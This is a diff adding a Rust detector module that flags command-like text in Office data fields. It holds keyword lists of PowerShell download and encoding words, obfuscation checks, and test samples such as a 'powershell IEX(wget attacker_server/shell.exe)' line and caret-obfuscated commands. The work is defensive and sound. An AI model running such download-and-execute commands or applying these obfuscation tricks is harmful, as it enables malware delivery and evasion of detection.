@@ -1,0 +1,312 @@
+//! What makes text look like a command. Each function is one pass over the text.
+
+use crate::command::{executable_extension, program_in};
+
+/// Extensions that count without a folder in front. Others are also endings of quoted symbols
+/// (`600000.SH`).
+const BARE_EXTENSIONS: &[&str] = &[
+    "bat", "cmd", "cpl", "dll", "exe", "hta", "js", "jse", "lnk", "msi", "pif", "ps1", "scr",
+    "sct", "vbe", "vbs", "wsf",
+];
+
+/// Switches of PowerShell and certutil that no feed has.
+const SWITCHES: &[&str] = &[
+    "-c",
+    "-command",
+    "-decode",
+    "-enc",
+    "-encodedcommand",
+    "-ep",
+    "-exec",
+    "-executionpolicy",
+    "-file",
+    "-noni",
+    "-noninteractive",
+    "-nop",
+    "-noprofile",
+    "-sta",
+    "-urlcache",
+    "-w",
+    "-windowstyle",
+];
+
+/// Operators and words of shells.
+const SHELL_WORDS: &[&str] = &[
+    "&&",
+    "$(",
+    "%comspec%",
+    "hkcu\\",
+    "hklm\\",
+    "invoke-",
+    "new-object",
+    "start-process",
+];
+
+/// Words after the short names of system tools.
+const VERBS: &[&str] = &[
+    "add",
+    "config",
+    "create",
+    "delete",
+    "export",
+    "import",
+    "localgroup",
+    "start",
+    "use",
+    "user",
+];
+
+/// Words of downloads and encoded code in PowerShell.
+const POWERSHELL: &[&str] = &[
+    "downloadstring",
+    "downloadfile",
+    "downloaddata",
+    "openread(",
+    "frombase64string",
+    "invoke-expression",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "net.webclient",
+];
+
+/// How long a run of base64 text is no word any more (Word specification, section 10).
+const BASE64_RUN: usize = 40;
+
+fn words(text: &str) -> impl Iterator<Item = &str> {
+    text.split(|c: char| {
+        c.is_whitespace()
+            || matches!(
+                c,
+                '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '=' | '<' | '>' | '|' | '&' | '{' | '}'
+            )
+    })
+    .filter(|word| !word.is_empty())
+}
+
+/// The first thing in a text that only a command has: a switch, a program, a file that runs, an
+/// operator.
+pub(super) fn command(text: &str) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    let word = words(text)
+        .find(|word| is_switch(word) || program_in(word).is_some() || is_executable(word));
+    if let Some(word) = word {
+        return Some(word.to_owned());
+    }
+    let shell = SHELL_WORDS.iter().find(|word| lower.contains(**word));
+    shell
+        .map(|word| (*word).to_owned())
+        .or_else(|| powershell(text, false))
+}
+
+/// Whether a path in the text climbs. Office programs ask each other for documents by such paths,
+/// so the caller looks at what the path leads to.
+pub(super) fn climbs(text: &str) -> Option<String> {
+    ["..\\", "../"]
+        .into_iter()
+        .find(|dots| text.contains(dots))
+        .map(str::to_owned)
+}
+
+/// A verb that makes the short name of a system tool a command: `net user`, `sc create`.
+pub(super) fn verb(text: &str) -> Option<String> {
+    let first = words(text).next()?.to_ascii_lowercase();
+    VERBS.contains(&first.as_str()).then_some(first)
+}
+
+fn is_switch(word: &str) -> bool {
+    let mut chars = word.chars();
+    let slash = chars.next() == Some('/')
+        && chars.next().is_some_and(|c| c.is_ascii_alphabetic())
+        && chars.next().is_none_or(|c| c == ':');
+    slash || SWITCHES.contains(&word.to_ascii_lowercase().as_str())
+}
+
+/// Whether one word is a file that Windows runs.
+pub(super) fn is_executable(word: &str) -> bool {
+    let name = word.trim_matches(|c: char| matches!(c, '"' | '^' | '.' | ':' | '#' | '!' | '%'));
+    let base = name.rsplit(['\\', '/']).next().unwrap_or_default();
+    let base: String = base.chars().filter(|c| *c != '^').collect();
+    let Some(extension) = executable_extension(&base.to_lowercase()) else {
+        return false;
+    };
+    let placed = name.contains('\\') || (name.contains('/') && extension != "com");
+    placed || BARE_EXTENSIONS.contains(&extension)
+}
+
+/// The first word of a text, if it is a path to a file that runs.
+pub(super) fn leading_executable(text: &str) -> Option<String> {
+    let text = text.trim().trim_start_matches(['"', '\'']);
+    let first = text.split([' ', '\t', '"', '\'']).next()?;
+    (first.contains(['\\', '/']) && !first.starts_with("/") && is_executable(first))
+        .then(|| first.to_owned())
+}
+
+/// Downloads, encoded text or a hidden window in PowerShell. The short switches only count when
+/// PowerShell is named.
+pub(super) fn powershell(text: &str, named: bool) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    if let Some(word) = POWERSHELL.iter().find(|word| lower.contains(**word)) {
+        return Some((*word).to_owned());
+    }
+    let is_word = |word: &str| {
+        lower
+            .split(|c: char| !c.is_alphanumeric())
+            .any(|found| found == word)
+    };
+    if let Some(word) = ["iex", "iwr"].into_iter().find(|word| is_word(word)) {
+        return Some(word.to_owned());
+    }
+    if !named && !lower.contains("powershell") && !lower.contains("pwsh") {
+        return None;
+    }
+    let mut previous = "";
+    for word in words(&lower) {
+        let dashed = word.strip_prefix(['-', '/']);
+        // Any beginning of the name of a switch stands for it.
+        if dashed.is_some_and(|name| {
+            "encodedcommand".starts_with(name) && !name.is_empty() || name == "ec"
+        }) {
+            return Some(word.to_owned());
+        }
+        let window = previous
+            .strip_prefix(['-', '/'])
+            .is_some_and(|name| "windowstyle".starts_with(name) && !name.is_empty());
+        if window && matches!(word, "hidden" | "hid" | "h" | "1") {
+            return Some(format!("{previous} {word}"));
+        }
+        previous = word;
+    }
+    None
+}
+
+/// Carets, pieces of variables, empty quotes within words, long encoded text.
+pub(super) fn obfuscation(text: &str) -> Option<String> {
+    let mut before = ' ';
+    let mut chars = text.chars().peekable();
+    let mut percent = false;
+    let mut run = 0_usize;
+    while let Some(c) = chars.next() {
+        let next = chars.peek().copied().unwrap_or(' ');
+        if c == '^' && next.is_alphanumeric() {
+            return Some("^".to_owned());
+        }
+        if c == '%' {
+            percent = true;
+        }
+        if percent && c == ':' && next == '~' {
+            return Some("%…:~".to_owned());
+        }
+        if c == '"' && next == '"' && before.is_alphanumeric() {
+            let mut after = chars.clone();
+            after.next();
+            if after.next().is_some_and(char::is_alphanumeric) {
+                return Some("\"\"".to_owned());
+            }
+        }
+        run = if c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') {
+            run.saturating_add(1)
+        } else {
+            0
+        };
+        if run == BASE64_RUN {
+            return Some(format!("{BASE64_RUN} characters of base64"));
+        }
+        before = c;
+    }
+    None
+}
+
+/// A shell in the text of a query: `xp_cmdshell`, `Shell(`, an interpreter.
+pub(super) fn shell_in_query(text: &str) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    if let Some(word) = ["xp_cmdshell", "shell(", "cmd /c", "cmd /k", "cmd.exe"]
+        .into_iter()
+        .find(|word| lower.contains(*word))
+    {
+        return Some(word.to_owned());
+    }
+    // `cmd` alone is a fair name of a column.
+    words(&lower)
+        .filter_map(program_in)
+        .find(|name| !matches!(*name, "cmd" | "at" | "net" | "python" | "java" | "explorer"))
+        .map(str::to_owned)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands() {
+        for text in [
+            "/c calc",
+            "/C powershell IEX(wget attacker_server/shell.exe)",
+            "URL.dll,OpenURL calc.exe",
+            "-enc AAAA",
+            "x && y",
+            "start certutil",
+            "C:\\x\\y.vbs",
+        ] {
+            assert!(command(text).is_some(), "{text}");
+        }
+        for text in [
+            "M",
+            "IDN",
+            "N7:0,L1,C1",
+            "Live",
+            "MKT_1",
+            "[Book1.xlsx]Sheet1",
+            "C:\\data\\prices.xls",
+            "..\\prices.xls",
+            "600000.SH",
+            "www.example.com",
+            "EUR/USD",
+            "at 5",
+            "-1.5",
+            "Display",
+            "",
+        ] {
+            assert_eq!(command(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn powershell_words() {
+        let found = |text| powershell(text, true);
+        assert_eq!(found("-nop -e AAAA").as_deref(), Some("-e"));
+        assert_eq!(found("-nop -EncodedC AAAA").as_deref(), Some("-encodedc"));
+        assert_eq!(found("-w 1 -nop").as_deref(), Some("-w 1"));
+        assert_eq!(found("-NoP -W Hidden x").as_deref(), Some("-w hidden"));
+        assert_eq!(found("(iex)").as_deref(), Some("iex"));
+        assert_eq!(powershell("-e x", false), None);
+        assert_eq!(powershell("/c calc.exe", false), None);
+        assert_eq!(powershell("complexity", true), None);
+    }
+
+    #[test]
+    fn obfuscated_commands() {
+        assert!(obfuscation("/c p^owershell").is_some());
+        assert!(obfuscation("%ComSpec:~0,3%").is_some());
+        assert!(obfuscation("po\"\"wershell").is_some());
+        assert!(obfuscation(&"QUJD".repeat(10)).is_some());
+        for text in [
+            "/c start \"\" calc",
+            "/k calc.exe",
+            "http://host/a/b",
+            "a: ~b",
+        ] {
+            assert_eq!(obfuscation(text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn queries() {
+        assert!(shell_in_query("EXEC xp_cmdshell 'dir'").is_some());
+        assert!(shell_in_query("powershell -c x").is_some());
+        assert_eq!(shell_in_query("SELECT cmd, net FROM orders"), None);
+        assert_eq!(
+            shell_in_query("Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\a.xlsx"),
+            None
+        );
+    }
+}
